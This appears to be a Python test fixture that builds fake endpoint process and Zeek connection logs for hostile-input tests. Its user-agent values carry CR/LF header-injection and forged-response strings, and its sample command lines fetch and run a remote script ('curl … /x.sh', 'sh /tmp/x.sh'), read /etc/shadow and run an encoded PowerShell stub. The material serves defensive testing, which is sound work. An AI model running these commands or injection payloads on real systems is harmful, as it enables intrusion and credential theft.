"""A small store for the hostile-input tests, with hostile values planted in the telemetry:
CR/LF (response splitting), NUL and non-ASCII text, which reach headers through warnings."""

from __future__ import annotations

from typing import Any

PROC = "logs-endpoint.events.process-default"
CONN = "logs-zeek.conn-default"

HOSTILE_AGENTS = [
    "Mozilla\r\nX-Injected-By-Log: 1",
    "Mozilla\r\n\r\nHTTP/1.1 200 OK\r\nX-Forged: 1\r\n\r\n{}",
    "nul\x00byte",
    "caf\u00e9 \U0001f980 \u202e",
]


def _proc(i: int, host: str, name: str, cmd: str, user: str, ua: str) -> tuple[str, str, dict[str, Any]]:
    return PROC, f"p{i}", {
        "@timestamp": f"2024-05-01T1{i % 10}:00:00.000Z",
        "event": {"kind": "event", "category": ["process"], "type": ["start"]},
        "host": {"name": host, "ip": [f"10.0.0.{i}"]},
        "process": {"pid": 100 + i, "name": name, "command_line": cmd, "args": cmd.split()},
        "user": {"name": user},
        "user_agent": {"original": ua},
        "message": f"{name} started on {host}",
        "tags": ["t1", "t2"] if i % 2 else ["t1"],
    }


DOCS: list[tuple[str, str, dict[str, Any]]] = [
    _proc(i, ["web-01", "db-01", "ws-07"][i % 3], name, cmd, user, HOSTILE_AGENTS[i % len(HOSTILE_AGENTS)])
    for i, (name, cmd, user) in enumerate([
        ("bash", "bash -c whoami", "www-data"), ("curl", "curl -s http://198.51.100.7/x.sh", "www-data"),
        ("sh", "sh /tmp/x.sh", "www-data"), ("sshd", "/usr/sbin/sshd -D", "root"),
        ("cat", "cat /etc/shadow", "root"), ("powershell", "powershell -enc SQBFAFgA", "alice"),
    ], start=1)
] + [
    (CONN, f"c{i}", {
        "@timestamp": f"2024-05-01T10:0{i}:00.000Z", "source": {"ip": "10.0.0.1", "port": 40000 + i},
        "destination": {"ip": "198.51.100.7", "port": 443}, "network": {"transport": "tcp", "bytes": 100 * i},
    })
    for i in range(1, 6)
]  # fmt: skip
